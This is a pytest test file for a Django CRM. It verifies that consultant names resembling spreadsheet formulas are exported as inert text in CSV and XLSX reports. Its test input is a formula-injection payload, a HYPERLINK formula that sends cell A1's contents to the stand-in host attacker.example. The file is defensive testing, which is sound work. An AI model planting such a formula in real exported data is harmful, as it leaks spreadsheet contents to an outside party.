"""Text typed into the CRM never becomes a formula in an export (CSV and XLSX)."""

import io
import zipfile

import pytest

from tests.reports.test_exports import export, read_csv, read_xlsx

pytestmark = pytest.mark.django_db
FORMULA = '=HYPERLINK("http://attacker.example/?"&A1,"Аліна")'


@pytest.fixture
def supervisor_client(client, carol):
    client.force_login(carol)
    return client


@pytest.mark.parametrize("name", [FORMULA, "+1+1", "-2+3", "@SUM(1;2)"])
def test_a_name_that_looks_like_a_formula_is_text_in_csv(supervisor_client, march, alice, name):
    alice.first_name = name
    alice.save()
    rows = read_csv(export(supervisor_client, "calls", "per_consultant", "csv"))
    row = next(row for row in rows if name in row[0])
    assert row[0] == "'" + name
    assert row[1] == "3"  # numbers untouched


def test_a_name_that_looks_like_a_formula_is_text_in_xlsx(supervisor_client, march, alice):
    alice.first_name = FORMULA
    alice.save()
    response = export(supervisor_client, "calls", "per_consultant", "xlsx")
    sheet = read_xlsx(response).worksheets[0]
    cell = next(row[0] for row in sheet.iter_rows() if row[0].value == FORMULA)
    assert cell.data_type == "s"
    assert cell.quotePrefix
    assert sheet.cell(row=cell.row, column=2).value == 3
    with zipfile.ZipFile(io.BytesIO(response.content)) as xlsx:
        sheets = [xlsx.read(name) for name in xlsx.namelist() if name.startswith("xl/worksheets/")]
    assert not any(b"<f>" in xml or b"<f " in xml for xml in sheets)
